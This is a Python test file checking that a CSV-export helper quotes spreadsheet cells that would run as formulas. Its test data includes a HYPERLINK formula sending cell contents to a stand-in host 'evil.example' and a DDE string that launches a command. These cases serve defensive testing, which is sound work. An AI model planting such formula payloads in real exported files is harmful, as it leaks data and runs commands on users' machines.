"""CSV injection (issue 14): cells a spreadsheet would run as a formula get a quote."""

from __future__ import annotations

import io

import polars as pl
import pytest

from fupin.core import csvsafe

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("大坪村三组5号", "大坪村三组5号"),
        ("a=b", "a=b"),
        ("-12.50", "-12.50"),  # a plain number stays a number
        ("+3", "+3"),
        ("", ""),
        (12, 12),
        (None, None),
    ],
)
def test_escape_cell(value, written):
    assert csvsafe.escape_cell(value) == written


def test_the_row_and_the_column_forms_agree():
    values = [HYPERLINK, "-2+3", "-12.50", "大坪村", "@x", None]
    frame = pl.DataFrame({"v": values}, schema={"v": pl.String})
    assert csvsafe.escape_frame(frame)["v"].to_list() == [csvsafe.escape_cell(v) for v in values]
    numbers = pl.DataFrame({"n": [-1, 2]})
    assert csvsafe.escape_frame(numbers).equals(numbers)


def test_safe_writer_and_write_frame_write_quoted_cells_and_unescape_reads_them_back():
    fh = io.StringIO()
    csvsafe.SafeWriter(fh).writerow(["=1+1", "ok"])
    assert fh.getvalue().startswith("'=1+1,ok")
    frame = pl.DataFrame({"address": [HYPERLINK, "大坪村"], "amount": ["-5.00", "-1-1"]})
    text = csvsafe.write_frame(frame, None)
    assert "'=HYPERLINK" in text and "\n-5.00" not in text  # header first
    back = pl.read_csv(io.StringIO(text), infer_schema=False)
    assert back["address"][0] == "'" + HYPERLINK
    assert back["amount"].to_list() == ["-5.00", "'-1-1"]
    assert csvsafe.unescape_frame(back).equals(frame)
